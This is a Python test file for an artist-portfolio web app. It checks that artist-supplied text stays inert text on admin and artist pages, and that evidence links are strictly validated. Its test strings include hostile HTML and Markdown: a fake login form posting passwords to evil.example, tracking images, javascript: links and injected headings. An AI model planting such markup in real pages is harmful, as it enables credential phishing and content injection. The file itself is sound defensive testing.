"""Stored markup (issue 17 §1): text an artist controls is shown as text on every admin and artist view.

An artist puts HTML and Markdown into everything that reaches a page — a file name (the CLI keeps any
name), an evidence link, an XMP `plus:DataMining` value, the `artist` field of a signed manifest (quoted
by the bad-signature reason), a review note — through the services, as the CLI and the app would. Each
view is then read through the running app and its Markdown rendered as a CommonMark renderer with raw
HTML on renders it (as Gradio's marked does before its sanitiser, which keeps forms, inputs, images and
links): no element the text asked for may appear, and the text itself must still be there, as text.
"""

from __future__ import annotations

from html.parser import HTMLParser
from xml.sax.saxutils import escape as xml_escape

import pytest
from gradio_client import Client, handle_file
from gradio_client.exceptions import AppError
from markdown_it import MarkdownIt
from sqlalchemy import update

from mimicsafe import accounts, portfolio, review, uploads
from mimicsafe.db.models import PortfolioItem, TrainingJob
from mimicsafe.errors import ValidationFailed
from mimicsafe.imaging import NamedFile
from mimicsafe.portfolio import MAX_EVIDENCE_URL, check_evidence_url
from mimicsafe.provenance.verify import VerifyReport
from mimicsafe.provenance.watermark import Detection
from mimicsafe.training.service import JobView
from ownership.signatures import generate_keypair, sign_manifest
from tests.gate_helpers import artwork, png_bytes, xmp_packet
from ui.markup import html_text, plain
from ui.tabs.training import progress_html
from ui.tabs.uploads import verdict_card
from ui.tabs.verify import report_card

PASSWORD = "mara-password-12"
FAKE_LINE = "Artist so far: 99 verified works"
HOSTILE = ('<form action="https://evil.example/s" method="post"><input type="password" name="pw">'
           '<button>Log in again</button></form><img src=http://evil.example/t.png> [here](https://evil.example/)'
           f" https://evil.example/bare\n\n**{FAKE_LINE}**\n- INJECTED item\n# INJECTED heading")
# What a signed manifest may hold in its `artist` field (one line, at most 128 characters).
HOSTILE_ARTIST = ("<form action=https://evil.example><input type=password name=pw></form>"
                  "<img src=http://evil.example/t.png>**INJECTED**")
# A link that passes the evidence rule but is Markdown all the same.
TRICKY_LINK = f"https://example.org/**{FAKE_LINE.replace(' ', '_')}**/![x](https://evil.example/a.png)[y](javascript:x)"
LIVE = {"form", "input", "button", "img", "a", "h1", "h2", "script", "iframe", "table", "del", "s"}
RENDER = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "strikethrough", "linkify"])


class Elements(HTMLParser):
    """The rendered page's elements, each with its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.elements: list[tuple[str, str]] = []
        self._open: list[list[str]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append(tag)
        self._open.append([tag, ""])

    def handle_endtag(self, tag: str) -> None:
        while self._open:
            name, text = self._open.pop()
            self.elements.append((name, text))
            if name == tag:
                break

    def handle_data(self, data: str) -> None:
        self.text += data
        for element in self._open:
            element[1] += data


def inert(markdown: str, *, shown: str | None = None, html: bool = False) -> Elements:
    """Render as the page would (`html`: gr.HTML, shown as it is); fail on any element the hostile text
    asked for: a tag, a fake bold line, heading or list item of its own."""
    page = Elements()
    page.feed(markdown if html else RENDER.render(markdown))
    assert not LIVE & set(page.tags), (set(page.tags), markdown)
    for tag, text in page.elements:
        if tag in ("strong", "em", "code", "h3", "h4"):
            assert FAKE_LINE not in text and "INJECTED" not in text, (tag, text)
        if tag in ("li", "p"):
            assert not text.lstrip().startswith(("INJECTED", FAKE_LINE, "**")), (tag, text)
    if shown is not None:
        assert shown in page.text, (shown, page.text)
    return page


def test_the_helper_leaves_nothing_live() -> None:
    page = inert(plain(HOSTILE), shown='<form action="https://evil.example/s" method="post">')
    assert FAKE_LINE in page.text and "\n" not in page.text.strip()
    assert inert(f"<p>{html_text(HOSTILE)}</p>", html=True, shown=HOSTILE.replace("\n", " ")).tags == ["p"]
    assert "<" not in html_text(HOSTILE) and "\n" not in html_text(HOSTILE)
    for line_start in ("# x", "> x", "- x", "+ x", "1. x", "2) x", "    x", "=== x", "www.evil.example", "a@b.example"):
        page = inert(f"- {plain(line_start)}", shown=line_start)
        assert [tag for tag, _ in page.elements] == ["li", "ul"], (line_start, page.elements)
    assert plain("alice_b.png") != "alice_b.png" and inert(plain("a_b_c*d*")).text.strip() == "a_b_c*d*"


@pytest.mark.parametrize("bad", [HOSTILE, "https://example.org/a b", "https://example.org/a\nb", "https://x/<img>",
                                 'https://x/"onmouseover', "javascript:alert(1)", "ftp://example.org/a",
                                 "https://user:pw@example.org/", "https:///nohost", "https://example.org/" + "a" * 2100,
                                 "https://example.org/\u2028"])
def test_evidence_links_are_checked_strictly_where_they_enter(bad: str) -> None:
    with pytest.raises(ValidationFailed, match="evidence"):
        check_evidence_url(bad)


def test_good_evidence_links_pass() -> None:
    for good in ("https://example.org/alice/first-post", "http://example.org/a?b=c&d=%3Ce%3E#f", TRICKY_LINK,
                 "https://example.org/" + "a" * (MAX_EVIDENCE_URL - 20)):
        assert check_evidence_url(good) == good


@pytest.fixture(scope="module")
def hostile(world) -> dict:
    """mara's hostile works and uploads, made through the services; nico uploads a copy of her work."""
    instance = world.instance
    private, _public = generate_keypair()
    name = HOSTILE.replace("\n", " ")[:200] + ".png"  # a file name the CLI would keep
    signed = png_bytes(artwork(17, 1))
    manifest = sign_manifest(private_key_path_or_bytes=private, artist=HOSTILE_ARTIST, files=[(name, signed)])
    mining = png_bytes(artwork(17, 2), xmp=xmp_packet(
        f"<plus:DataMining>http://ns.useplus.org/ldf/vocab/DMI-PROHIBITED-AIMLTRAINING {xml_escape(HOSTILE)}"
        "</plus:DataMining>"))
    work, pending = png_bytes(artwork(17, 3)), png_bytes(artwork(17, 4))
    with instance.transaction() as session:
        for artist in ("mara", "nico"):
            accounts.create_user(session=session, username=artist, role="artist", password=PASSWORD)
        (verified,) = portfolio.add_items(session=session, blobs=instance.blobs, settings=instance.settings,
                                          username="mara", files=[NamedFile(name, work)], evidence_url=TRICKY_LINK,
                                          actor="mara")
        portfolio.verify_items(session=session, registry=instance.registry, username="mara", admin="root")
        (legacy,) = portfolio.add_items(session=session, blobs=instance.blobs, settings=instance.settings,
                                        username="mara", files=[NamedFile(name, pending)], evidence_url=None,
                                        actor="mara")
        # stored before links were checked: the view must still show it as text
        session.execute(update(PortfolioItem).where(PortfolioItem.id == legacy.id).values(evidence_url=HOSTILE))
        ids = {"verified": verified.id, "legacy": legacy.id}
    bad_signature, prohibited = uploads.upload(
        instance=instance, username="mara", files=[NamedFile(name, signed), NamedFile("mining.png", mining)],
        signatures=[NamedFile("manifest.json", manifest)])
    (copy,) = uploads.upload(instance=instance, username="nico", files=[NamedFile("copy.png", work)])
    with instance.transaction() as session:
        review.decide(session=session, admin="root", upload_id=bad_signature.upload_id, action="uphold", note=HOSTILE)
    assert {r["code"] for r in bad_signature.to_json()["reasons"]} >= {"bad_signature"}
    assert "metadata_prohibits_training" in {r["code"] for r in prohibited.to_json()["reasons"]}
    assert copy.to_json()["decision"] == "rejected" and copy.review_state == "pending"
    return {**ids, "bad_signature": bad_signature, "prohibited": prohibited, "copy": copy.upload_id, "name": name}


def test_admin_views_show_artists_text_as_text(world, hostile: dict) -> None:
    root = world.client("root")
    _, shown = root.predict(hostile["legacy"], api_name="/admin_portfolio_show")
    inert(shown, shown=HOSTILE.replace("\n", " "))
    _, shown = root.predict(hostile["verified"], api_name="/admin_portfolio_show")
    inert(shown, shown=TRICKY_LINK)
    for upload in (hostile["bad_signature"], hostile["prohibited"]):
        *_, shown = root.predict(upload.upload_id, api_name="/admin_review_show")
        page = inert(shown)
        assert "<form" in page.text and "<img src=" in page.text  # there, as text
    *_, shown = root.predict(hostile["copy"], api_name="/admin_review_show")  # the caption names mara's file
    inert(shown, shown=hostile["name"][:60])


def test_artist_views_show_their_own_text_as_text(world, hostile: dict) -> None:
    mara = Client(world.url + "/", auth=("mara", PASSWORD), verbose=False)
    *_, shown = mara.predict(hostile["bad_signature"].upload_id, api_name="/artist_upload_show")
    inert(shown, shown=hostile["name"][:60])
    for outcome in (hostile["bad_signature"], hostile["prohibited"]):
        inert(verdict_card(outcome.to_json(), outcome.review_state))
    with pytest.raises(AppError) as refused:  # gr.Error's message is rendered as HTML
        mara.predict([handle_file(str(world.alice_signed_png))], HOSTILE, api_name="/artist_portfolio_submit")
    assert "evidence" in str(refused.value) and "<form" not in str(refused.value)


def test_the_training_status_shows_a_jobs_error_as_text() -> None:
    """gr.HTML: it was escaped before (html.escape); now with the one helper, and still inert."""
    job = TrainingJob(id=3, preset="tiny", status="failed", error=HOSTILE, step=0, total_steps=5)
    status = progress_html(JobView(job=job, artist="mara", queue_position=None, sample_sha256s=[], model_id=None))
    assert inert(status, shown=HOSTILE.replace("\n", " "), html=True).tags == ["p", "b"]



def test_escaping_is_for_display_only(world, hostile: dict) -> None:
    """The database keeps exactly what was typed; only the pages write it as text."""
    with world.instance.reading() as session:
        item = session.get(PortfolioItem, hostile["verified"])
        assert item is not None and item.evidence_url == TRICKY_LINK and item.file_name == hostile["name"]


def test_the_public_check_shows_what_a_file_says_as_text() -> None:
    """verify's notes quote what an uploaded file's C2PA manifest says about itself."""
    nothing = Detection(payload=None, bit_accuracy=0.0, confidence=0.0, transform=HOSTILE_ARTIST)
    report = VerifyReport(generation=None, methods=(), c2pa=None, watermark=nothing, fingerprint_matches=(),
                          notes=(f"a MimicSafe-style C2PA manifest is present but not trusted here ({HOSTILE})",))
    inert(report_card(report), shown=HOSTILE.replace("\n", " "))
